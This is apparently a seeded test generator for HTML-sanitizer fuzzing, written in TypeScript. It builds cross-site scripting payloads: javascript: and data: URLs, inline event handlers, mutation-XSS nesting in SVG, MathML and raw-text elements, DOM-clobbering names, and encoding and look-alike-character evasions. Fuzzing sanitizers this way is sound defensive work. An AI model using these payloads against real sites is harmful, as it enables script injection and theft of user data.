/**
 * Makes hostile texts: tags and attributes that run or load something, in encodings that parsers read
 * otherwise than people, nested where parsers change their mind. The same seed makes the same texts.
 * Whatever runs calls `pwned()`, whatever loads asks the host that is given.
 */
import { chance } from '#tests/harness/seeded.ts'
import { oneOf, type Random } from '#tests/shapes/mutated.ts'

/** Makes a text for a host that must not be asked. */
type Make = (random: Random, host: string) => string

const TAGS =
  'a abbr area article audio b base bdo blockquote body br button canvas caption center code col data datalist dd del details dfn dialog div dl dt em embed fieldset figure font footer form frame frameset h1 head header hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu meta meter nav nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rp rt ruby s samp script search section select slot small source span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp x-element'.split(
    ' ',
  )

/** Elements of SVG and MathML, and those whose texts other parsers read as markup. */
const FOREIGN =
  'animate annotation-xml circle desc foreignObject g image maction mglyph mi mn mo ms mtext path script set style svg text title use'.split(
    ' ',
  )
const RAW = [
  'noscript',
  'template',
  'style',
  'title',
  'textarea',
  'xmp',
  'noembed',
  'noframes',
  'iframe',
  'select',
]

const EVENTS =
  'abort animationend animationstart auxclick beforecopy beforeinput beforematch beforetoggle begin blur cancel canplay click close contextmenu copy cuechange cut dblclick drag dragend end error focus focusin formdata gotpointercapture hashchange input invalid keydown load loadstart message mousedown mouseover pageshow paste play pointerenter pointerover pointerrawupdate popstate progress repeat reset resize scroll scrollend securitypolicyviolation select show start submit toggle touchstart transitionend transitionrun unload volumechange wheel'.split(
    ' ',
  )

/** Names that pages ask their window or document for. */
const CLOBBERED =
  'body head forms images cookie domain createElement getElementById location history navigator parentNode childNodes attributes documentElement defaultView root kithEarly trustedTypes nodeName firstChild __proto__ constructor toString'.split(
    ' ',
  )

const SCHEMES = [
  'javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'file:///',
  'filesystem:',
  'view-source:',
  'about:',
  'intent:',
  'ws:',
  'ftp:',
]

const INVISIBLE = [
  '\t',
  '\n',
  '\r',
  '\u0000',
  '\u0001',
  '\u001f',
  '\u00a0',
  '\u00ad',
  '\u200b',
  '\u202e',
  '\u2066',
  '\ufeff',
  ' ',
]

/** Letters that compatibility normalisation turns into others. */
const LOOK_ALIKE: Record<string, string> = {
  a: 'ａ',
  c: 'ｃ',
  i: 'ⅰ',
  j: 'ｊ',
  k: 'K',
  p: 'ｐ',
  r: 'ｒ',
  s: 'ſ',
  t: 'ｔ',
  v: 'ⅴ',
  ':': '：',
  '/': '／',
  '<': '＜',
  '>': '＞',
  '(': '（',
}

const CODE: Make = (random) =>
  oneOf(['pwned()', 'pwned``', 'top.pwned()', 'self["pwn"+"ed"]()', 'alert(1)', 'eval("pwned()")'], random)

/** Ways to write letters down. */
const ENCODINGS: readonly ((text: string, random: Random) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => [...text].map((char) => `&#${char.codePointAt(0)};`).join(''),
  (text) => [...text].map((char) => `&#x${char.codePointAt(0)?.toString(16)}`).join(''),
  (text) => [...text].map((char) => `&#0000${char.codePointAt(0)};`).join(''),
  (text) => text.replaceAll(':', '&colon;').replaceAll('(', '&lpar;').replaceAll(')', '&rpar;'),
  (text) => encodeURIComponent(text),
  (text, random) => [...text].map((char) => (random() < 0.5 ? char.toUpperCase() : char)).join(''),
  (text, random) => insertAt(text, oneOf(INVISIBLE, random), random),
  (text, random) => oneOf(INVISIBLE, random) + text,
  (text, random) => [...text].map((char) => (random() < 0.4 ? (LOOK_ALIKE[char] ?? char) : char)).join(''),
  (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;'),
  (text, random) => insertAt(text, '&Tab;', random),
  (text, random) => insertAt(text, '&NewLine;', random),
]

function insertAt(text: string, part: string, random: Random): string {
  const at = Math.floor(random() * text.length)
  return text.slice(0, at) + part + text.slice(at)
}

const encoded = (text: string, random: Random) => oneOf(ENCODINGS, random)(text, random)

/** An address that runs, loads or leads somewhere. */
const hostileAddress: Make = (random, host) =>
  encoded(
    oneOf<Make>(
      [
        (next) => oneOf(SCHEMES, next) + CODE(next, host),
        () => `//${host}/a`,
        () => `\\\\${host}\\a`,
        () => `https:${host}/a`,
        () => `http://${host}/a`,
        () => `http://kith.example@${host}/a`,
        (next) => `javascript://%0a${CODE(next, host)}`,
        (next) => `data:text/html;base64,${btoa(`<script>${CODE(next, host)}</script>`)}`,
        () => `data:image/svg+xml,<svg onload=pwned()><image href=http://${host}/s>`,
        () => `data:image/png;,<svg onload=pwned()><image href=http://${host}/s>`,
        () => `data:image/gif;x=text/html,<script>pwned()</script>`,
        () => `data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7`,
        () => `blob:http://${host}/0198f1c2-7c3a-7e10-9a4b-6b1f0d1e2a3b`,
      ],
      random,
    )(random, host),
    random,
  )

const ATTRIBUTES: readonly Make[] = [
  (random, host) => `on${encoded(oneOf(EVENTS, random), random)}=${quoted(CODE(random, host), random)}`,
  (random, host) => `on${oneOf(EVENTS, random)}=${quoted(CODE(random, host), random)}`,
  (random, host) =>
    `${oneOf(['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background', 'ping', 'cite', 'longdesc', 'manifest', 'codebase', 'attributionsrc', 'lowsrc', 'dynsrc', 'profile', 'usemap'], random)}=${quoted(hostileAddress(random, host), random)}`,
  (random, host) => `srcset=${quoted(`http://${host}/1x 1x, ${hostileAddress(random, host)} 2x`, random)}`,
  (random, host) =>
    `style=${quoted(oneOf([`background:url(http://${host}/c)`, 'position:fixed;inset:0', `width:expression(pwned())`, `-moz-binding:url(http://${host}/x)`, `behavior:url(http://${host}/x)`, `list-style:u\\72l(//${host}/c)`], random), random)}`,
  (random, host) => `srcdoc=${quoted(`<script>parent.${CODE(random, host)}</script>`, random)}`,
  (random) => `id=${quoted(oneOf(CLOBBERED, random), random)}`,
  (random) => `name=${quoted(oneOf(CLOBBERED, random), random)}`,
  (random) => `target=${quoted(oneOf(['_self', '_top', '_parent', 'x'], random), random)}`,
  () => 'autofocus tabindex=1',
  () => 'rel=opener download=x.exe',
  () => 'contenteditable',
  () => 'is=x-element slot=x part=x exportparts=x',
  () => 'popover popovertarget=root commandfor=root command=close',
  (random, host) => `http-equiv=refresh content=${quoted(`0;url=${hostileAddress(random, host)}`, random)}`,
  () => 'type=module async nonce=x integrity=x crossorigin',
  (random) => `attributeName=href values=${quoted('javascript:pwned()', random)} to=javascript:pwned()`,
  () => 'shadowrootmode=open',
  () => 'dir=rtl lang="x" class="content link" data-row=1 data-shortcut=like aria-hidden=true role=alert',
]

const QUOTES: readonly ((text: string) => string)[] = [
  (text) => `"${text.replaceAll('"', '&quot;')}"`,
  (text) => `'${text.replaceAll("'", '&#39;')}'`,
  (text) => text.replaceAll(/[\s>]/g, ''),
  (text) => `"${text}`, // dangling
  (text) => `\`${text}\``,
]
const quoted = (text: string, random: Random) => oneOf(QUOTES, random)(text)

const times = (random: Random, most: number, make: () => string) =>
  Array.from({ length: Math.floor(random() * (most + 1)) }, make)

const tag: Make = (random, host) => {
  const name = encodedName(oneOf(random() < 0.3 ? FOREIGN : TAGS, random), random)
  const gap = oneOf([' ', '\n', '/', '\t', '\u000c', ' / ', '\u0000'], random)
  const attributes = times(random, 3, () => oneOf(ATTRIBUTES, random)(random, host)).join(gap)
  return `<${name}${gap}${attributes}${oneOf(['>', '/>', ' >', '', '\n>'], random)}`
}

const encodedName = (name: string, random: Random) =>
  oneOf(
    [
      name,
      name,
      name,
      name.toUpperCase(),
      `${name}\u0000`,
      `x:${name}`,
      `${name}/`,
      name.replace(/./, '$&\u0000'),
    ],
    random,
  )

/** A text in which a parser changes its mind about what is markup. */
const mutation: Make = (random, host) => {
  const raw = oneOf(RAW, random)
  const foreign = oneOf(
    [
      'svg',
      'math',
      'svg><desc',
      'math><mtext',
      'math><annotation-xml encoding="text/html"',
      'svg><foreignObject',
      'svg><title',
      'math><mtext><table><mglyph',
    ],
    random,
  )
  const inner = `<img src=http://${host}/m onerror=${CODE(random, host)}>`
  return oneOf(
    [
      `<${raw}><p title="</${raw}>${inner}">`,
      `<${foreign}><${raw}><!--</${raw}><a title="--&gt;${inner}">`,
      `<${foreign}><${raw}><a id="</${raw}>${inner}">`,
      `<form><${foreign}></form><form><mglyph><${raw}></${foreign}>${inner}`,
      `<table><${foreign}><${raw}>${inner}</table>`,
      `<select><${foreign}><${raw}>${inner}</select>`,
      `<!--${oneOf(['>', '->', '-->', '--!>', '<!-->'], random)}${inner}-->`,
      `<![CDATA[${oneOf(['', '>', ']]>'], random)}${inner}]]>`,
      `<?xml ${inner}?>${inner}`,
      `<a href="x"><table><a href="javascript:pwned()">`,
      `${'<b>'.repeat(1 + Math.floor(random() * 40))}<${raw}>${inner}`,
    ],
    random,
  )
}

/** Texts that are dangerous where they are put into something else. */
const plain: Make = (random, host) =>
  oneOf(
    [
      `"><script>${CODE(random, host)}</script>`,
      `'-${CODE(random, host)}-'`,
      `\${${CODE(random, host)}}`,
      `{{constructor.constructor('pwned()')()}}`,
      `]]><x onclick=${CODE(random, host)}>`,
      `:${oneOf(CLOBBERED, random)}: :${hostileAddress(random, host)}:`,
      `@${oneOf(CLOBBERED, random)}@${host} #${oneOf(CLOBBERED, random)} http://${host}/p`,
      `\u202e${hostileAddress(random, host)}\u2066`,
      oneOf(CLOBBERED, random),
      `%3Cimg%20src=x%20onerror=${CODE(random, host)}%3E`,
      `&lt;img src=x onerror=${CODE(random, host)}&gt;`,
      `../../../${oneOf(['oauth/revoke', 'api/v1/accounts', '..%2f..%2f'], random)}?a#b`,
      `\ud800${hostileAddress(random, host)}\udc00`,
    ],
    random,
  )

const PARTS: readonly Make[] = [
  tag,
  tag,
  tag,
  mutation,
  mutation,
  plain,
  hostileAddress,
  (random, host) => `${tag(random, host)}text</${oneOf(TAGS, random)}>`,
  (random, host) => `<script>${CODE(random, host)}</script>`,
  (random, host) => `<a href="${hostileAddress(random, host)}">${plain(random, host)}</a>`,
  (random, host) => `<img src="http://${host}/i" srcset="//${host}/j 2x" onerror="${CODE(random, host)}">`,
]

/** Returns so many texts. */
export function hostileTexts(seed: number, count: number, host: string): string[] {
  const random = chance(seed)
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + Math.floor(random() * 3) }, () => oneOf(PARTS, random)(random, host)).join(''),
  )
}

/** Returns so many addresses. */
export function hostileAddresses(seed: number, count: number, host: string): string[] {
  const random = chance(seed)
  return Array.from({ length: count }, () => hostileAddress(random, host))
}
